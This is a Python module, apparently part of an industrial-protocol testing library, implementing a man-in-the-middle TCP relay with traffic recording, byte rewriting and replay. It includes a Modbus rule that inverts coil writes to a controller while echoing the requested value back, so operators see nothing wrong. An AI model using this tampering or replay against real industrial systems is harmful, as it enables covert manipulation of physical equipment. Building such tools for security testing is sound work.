# plcforge
# MIT License
#
# Copyright (c) 2026 The plcforge developers
#
# Permission is hereby granted, free of charge, to any person obtaining a copy
# of this software and associated documentation files (the "Software"), to deal
# in the Software without restriction, including without limitation the rights
# to use, copy, modify, merge, publish, distribute, sublicense, and/or sell
# copies of the Software, and to permit persons to whom the Software is
# furnished to do so, subject to the following conditions:
#
# The above copyright notice and this permission notice shall be included in all
# copies or substantial portions of the Software.
#
# THE SOFTWARE IS PROVIDED "AS IS", WITHOUT WARRANTY OF ANY KIND, EXPRESS OR
# IMPLIED, INCLUDING BUT NOT LIMITED TO THE WARRANTIES OF MERCHANTABILITY,
# FITNESS FOR A PARTICULAR PURPOSE AND NONINFRINGEMENT. IN NO EVENT SHALL THE
# AUTHORS OR COPYRIGHT HOLDERS BE LIABLE FOR ANY CLAIM, DAMAGES OR OTHER
# LIABILITY, WHETHER IN AN ACTION OF CONTRACT, TORT OR OTHERWISE, ARISING FROM,
# OUT OF OR IN CONNECTION WITH THE SOFTWARE OR THE USE OR OTHER DEALINGS IN THE
# SOFTWARE.
"""
A recording and rewriting TCP relay.

Clients are pointed at the tap's listening address, as if an attacker had
already put themselves in the path. Every chunk relayed in either direction
is appended to a transcript before the optional rewrite rule touches it.
"""
import socket
import threading
import time

from ducktools.classbuilder.prefab import Prefab, prefab, attribute

from . import _lazy_imports as _laz
from ._logger import log
from .exceptions import FrameError, TransportError, UpstreamRefused
from .fieldbus import (
    COIL_OFF,
    COIL_ON,
    WRITE_SINGLE_COIL,
    MAX_MBAP_LENGTH,
    MBAP_SIZE,
    Frame,
    decode_frame,
    encode_frame,
)


C2S = "c2s"
S2C = "s2c"
DIRECTIONS = (C2S, S2C)

BUFFER_SIZE = 65536
REPLAY_TIMEOUT = 5.0

TLS_HANDSHAKE = 0x16
TLS_ALERT = 0x15
TLS_APPLICATION_DATA = 0x17


@prefab(frozen=True)
class TranscriptEntry:
    direction: str
    data: bytes
    t_ms: float

    def to_json(self) -> str:
        return _laz.json.dumps({
            "dir": self.direction,
            "t_ms": self.t_ms,
            "data_b64": _laz.base64.b64encode(self.data).decode("ascii"),
        })

    @classmethod
    def from_json(cls, line: str) -> "TranscriptEntry":
        raw = _laz.json.loads(line)
        direction = raw["dir"]
        if direction not in DIRECTIONS:
            raise ValueError(f"Unknown transcript direction {direction!r}")
        return cls(
            direction=direction,
            data=_laz.base64.b64decode(raw["data_b64"]),
            t_ms=float(raw["t_ms"]),
        )


class Transcript(Prefab, kw_only=True):
    entries: list[TranscriptEntry] = attribute(default_factory=list)
    started: float = attribute(default_factory=time.monotonic, repr=False, compare=False)

    lock: threading.Lock = attribute(init=False, repr=False, compare=False)

    def __prefab_post_init__(self):
        self.lock = threading.Lock()

    def __len__(self):
        return len(self.entries)

    def append(self, direction: str, data: bytes) -> TranscriptEntry:
        entry = TranscriptEntry(
            direction=direction,
            data=bytes(data),
            t_ms=(time.monotonic() - self.started) * 1000,
        )
        with self.lock:
            self.entries.append(entry)
        return entry

    def stream(self, direction: str) -> bytes:
        with self.lock:
            return b"".join(e.data for e in self.entries if e.direction == direction)

    def client_bytes(self) -> bytes:
        return self.stream(C2S)

    def server_bytes(self) -> bytes:
        return self.stream(S2C)

    def contains(self, needle: bytes) -> bool:
        return needle in self.client_bytes() or needle in self.server_bytes()

    def dumps(self) -> str:
        with self.lock:
            return "".join(f"{e.to_json()}\n" for e in self.entries)

    @classmethod
    def loads(cls, text: str) -> "Transcript":
        return cls(entries=[
            TranscriptEntry.from_json(line)
            for line in text.splitlines()
            if line.strip()
        ])

    def save(self, path: str) -> None:
        with open(path, "w", encoding="utf-8") as f:
            f.write(self.dumps())

    @classmethod
    def load(cls, path: str) -> "Transcript":
        with open(path, "r", encoding="utf-8") as f:
            return cls.loads(f.read())


# Rewrite rules
class Rule:
    """
    Base rule: forward everything untouched
    """
    def bind(self) -> "Rule":
        """
        The rule instance one relayed connection should use.

        Stateless rules share themselves, rules that buffer stream data
        return a fresh instance per connection.
        """
        return self

    def client_chunk(self, data: bytes) -> bytes:
        return data

    def server_chunk(self, data: bytes) -> bytes:
        return data


class PatternRule(Rule):
    """
    Replace every occurrence of a byte pattern in one direction.

    Equal length replacements keep HTTP Content-Length headers valid.
    """
    def __init__(self, pattern: bytes, replacement: bytes, direction: str = C2S):
        if not pattern:
            raise ValueError("Pattern can not be empty")
        if direction not in DIRECTIONS:
            raise ValueError(f"Unknown direction {direction!r}")
        self.pattern = pattern
        self.replacement = replacement
        self.direction = direction
        self.hits = 0

    def _apply(self, data: bytes) -> bytes:
        count = data.count(self.pattern)
        if count:
            self.hits += count
            return data.replace(self.pattern, self.replacement)
        return data

    def client_chunk(self, data):
        return self._apply(data) if self.direction == C2S else data

    def server_chunk(self, data):
        return self._apply(data) if self.direction == S2C else data


def _split_frames(data: bytes) -> tuple[list[bytes], bytes] | None:
    """
    Split a stream buffer into complete Modbus/TCP frames and the unfinished tail.

    None if the buffer does not look like Modbus/TCP at all.
    """
    frames = []
    offset = 0
    while len(data) - offset >= MBAP_SIZE:
        protocol_id = int.from_bytes(data[offset + 2:offset + 4], "big")
        length = int.from_bytes(data[offset + 4:offset + 6], "big")
        if protocol_id != 0 or not 2 <= length <= MAX_MBAP_LENGTH:
            return None
        end = offset + MBAP_SIZE - 1 + length
        if end > len(data):
            break
        frames.append(data[offset:end])
        offset = end
    return frames, data[offset:]


class CoilFlipRule(Rule):
    """
    Invert the value of single coil writes on the way to the server and
    put the requested value back into the echo, so the client sees what it asked for.

    Stream data is held back until a whole frame has arrived.
    """
    def __init__(self, address: int | None = None):
        self.address = address
        self.flipped: dict[int, int] = {}
        self.lock = threading.Lock()
        self._pending = {C2S: b"", S2C: b""}

    def bind(self) -> "CoilFlipRule":
        stream = CoilFlipRule(self.address)
        stream.flipped = self.flipped
        stream.lock = self.lock
        return stream

    def _rewrite_frame(self, raw: bytes, to_server: bool) -> bytes:
        try:
            frame = decode_frame(raw)
        except FrameError:
            return raw
        if frame.function != WRITE_SINGLE_COIL or len(frame.payload) != 4:
            return raw

        address = int.from_bytes(frame.payload[:2], "big")
        value = int.from_bytes(frame.payload[2:], "big")

        with self.lock:
            if to_server:
                if self.address is not None and address != self.address:
                    return raw
                new_value = COIL_OFF if value == COIL_ON else COIL_ON
                self.flipped[frame.transaction_id] = value
            else:
                if frame.transaction_id not in self.flipped:
                    return raw
                new_value = self.flipped.pop(frame.transaction_id)

        return encode_frame(Frame(
            transaction_id=frame.transaction_id,
            protocol_id=frame.protocol_id,
            unit_id=frame.unit_id,
            function=frame.function,
            payload=frame.payload[:2] + new_value.to_bytes(2, "big"),
        ))

    def _rewrite(self, data: bytes, direction: str) -> bytes:
        buffered = self._pending[direction] + data
        split = _split_frames(buffered)
        if split is None:
            self._pending[direction] = b""
            return buffered

        frames, self._pending[direction] = split
        return b"".join(self._rewrite_frame(raw, direction == C2S) for raw in frames)

    def client_chunk(self, data):
        return self._rewrite(data, C2S)

    def server_chunk(self, data):
        return self._rewrite(data, S2C)


class ByteFlipRule(Rule):
    """
    Blindly corrupt the last byte of large client chunks
    """
    def __init__(self, min_size: int = 64):
        self.min_size = min_size
        self.hits = 0

    def client_chunk(self, data):
        if len(data) >= self.min_size:
            self.hits += 1
            return data[:-1] + bytes([data[-1] ^ 0xFF])
        return data


class Tap:
    def __init__(
        self,
        upstream: tuple[str, int],
        *,
        listen: tuple[str, int] = ("127.0.0.1", 0),
        rule: Rule | None = None,
        transparent: bool = True,
    ):
        self.upstream = upstream
        self.listen = listen
        self.rule = rule if rule is not None else Rule()
        # Connect upstream from the client's own address
        self.transparent = transparent

        self.transcripts: list[Transcript] = []
        self._lock = threading.Lock()
        self._listener: socket.socket | None = None
        self._thread: threading.Thread | None = None
        self._sockets: set[socket.socket] = set()
        self._running = threading.Event()

    def __enter__(self):
        return self.start()

    def __exit__(self, exc_type, exc_val, exc_tb):
        self.stop()

    @property
    def address(self) -> tuple[str, int]:
        if self._listener is None:
            raise RuntimeError("Tap is not running")
        return self._listener.getsockname()[:2]

    @property
    def transcript(self) -> Transcript:
        """
        Every relayed chunk of every connection, in arrival order
        """
        with self._lock:
            entries = [e for t in self.transcripts for e in t.entries]
        return Transcript(entries=sorted(entries, key=lambda e: e.t_ms))

    def start(self) -> "Tap":
        try:
            check = socket.create_connection(self.upstream, timeout=REPLAY_TIMEOUT)
        except OSError as e:
            raise UpstreamRefused(f"Upstream {self.upstream} refused the connection: {e}")
        check.close()

        self._listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self._listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self._listener.bind(self.listen)
        self._listener.listen(16)
        self._running.set()
        self._started = time.monotonic()

        self._thread = threading.Thread(target=self._accept_loop, daemon=True)
        self._thread.start()
        log(f"Tap relaying {self.address[0]}:{self.address[1]} -> {self.upstream[0]}:{self.upstream[1]}")
        return self

    def stop(self) -> None:
        self._running.clear()
        if self._listener is not None:
            try:
                self._listener.close()
            except OSError:
                pass
        with self._lock:
            sockets = list(self._sockets)
        for sock in sockets:
            try:
                sock.close()
            except OSError:
                pass
        if self._thread is not None:
            self._thread.join(timeout=REPLAY_TIMEOUT)
            self._thread = None

    def _accept_loop(self):
        while self._running.is_set():
            try:
                client, client_addr = self._listener.accept()
            except OSError:
                return
            threading.Thread(
                target=self._relay,
                args=(client, client_addr),
                daemon=True,
            ).start()

    def _relay(self, client: socket.socket, client_addr):
        source = (client_addr[0], 0) if self.transparent else None
        try:
            server = socket.create_connection(self.upstream, source_address=source)
        except OSError as e:
            log(f"Tap could not reach upstream {self.upstream}: {e}")
            client.close()
            return

        transcript = Transcript(started=self._started)
        rule = self.rule.bind()
        with self._lock:
            self.transcripts.append(transcript)
            self._sockets.update({client, server})

        pumps = [
            threading.Thread(
                target=self._pump,
                args=(client, server, transcript, C2S, rule.client_chunk),
                daemon=True,
            ),
            threading.Thread(
                target=self._pump,
                args=(server, client, transcript, S2C, rule.server_chunk),
                daemon=True,
            ),
        ]
        for pump in pumps:
            pump.start()
        for pump in pumps:
            pump.join()

        with self._lock:
            self._sockets.difference_update({client, server})
        client.close()
        server.close()

    @staticmethod
    def _pump(source, destination, transcript, direction, transform):
        try:
            while True:
                data = source.recv(BUFFER_SIZE)
                if not data:
                    break
                transcript.append(direction, data)
                destination.sendall(transform(data))
        except OSError:
            pass
        finally:
            try:
                destination.shutdown(socket.SHUT_WR)
            except OSError:
                pass


def record(listen_addr: tuple[str, int], upstream_addr: tuple[str, int]) -> Tap:
    return Tap(upstream_addr, listen=listen_addr).start()


def rewrite(listen_addr: tuple[str, int], upstream_addr: tuple[str, int], rule: Rule) -> Tap:
    return Tap(upstream_addr, listen=listen_addr, rule=rule).start()


def tls_record_types(data: bytes) -> list[int]:
    types = []
    offset = 0
    while offset + 5 <= len(data):
        types.append(data[offset])
        length = int.from_bytes(data[offset + 3:offset + 5], "big")
        offset += 5 + length
    return types


def looks_like_tls(data: bytes) -> bool:
    return len(data) >= 3 and data[0] == TLS_HANDSHAKE and data[1] == 0x03


def replay(
    transcript: Transcript,
    target_addr: tuple[str, int],
    *,
    source_ip: str | None = None,
    timeout: float = REPLAY_TIMEOUT,
) -> bytes:
    """
    Send the recorded client bytes verbatim over a fresh connection.

    :return: every byte the target sent back
    :raises TransportError: on refused or reset connections, and when a TLS
                            target answers without any application data
    """
    payload = transcript.client_bytes()
    if not payload:
        raise ValueError("Transcript holds no client bytes to replay")

    source = (source_ip, 0) if source_ip else None
    response = b""
    try:
        with socket.create_connection(target_addr, timeout=timeout, source_address=source) as sock:
            sock.sendall(payload)
            while True:
                chunk = sock.recv(BUFFER_SIZE)
                if not chunk:
                    break
                response += chunk
    except TimeoutError:
        pass
    except OSError as e:
        raise TransportError(f"Replay to {target_addr} failed: {e}")

    if looks_like_tls(payload):
        record_types = tls_record_types(response)
        if TLS_ALERT in record_types or TLS_APPLICATION_DATA not in record_types:
            raise TransportError(
                f"TLS replay to {target_addr} produced no application data"
            )
    if not response:
        raise TransportError(f"Replay to {target_addr} got no response")
    return response
